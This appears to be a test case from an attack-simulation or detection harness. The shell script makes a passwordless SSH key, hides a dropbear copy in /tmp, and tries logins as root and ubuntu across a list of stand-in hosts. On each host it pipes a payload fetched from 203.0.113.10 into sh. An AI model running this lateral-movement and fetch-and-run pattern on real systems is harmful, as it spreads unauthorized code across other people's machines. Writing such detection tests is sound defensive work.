#!/bin/sh
. /opt/case/case.sh

ssh-keygen -q -t ed25519 -N '' -f /root/.ssh/id_deploy
dropbearconvert openssh dropbear /root/.ssh/id_deploy /tmp/.k 2>/dev/null
for h in 10.77.0.1 203.0.113.10 203.0.113.11 203.0.113.12 198.51.100.7 198.51.100.8 198.51.100.9 198.51.100.10; do
    for u in root ubuntu; do
        timeout 3 dbclient -y -y -i /tmp/.k $u@$h 'curl -s http://203.0.113.10/payload.sh | sh' </dev/null >/dev/null 2>&1 &
    done
done
wait
test -s /tmp/.k
took_place
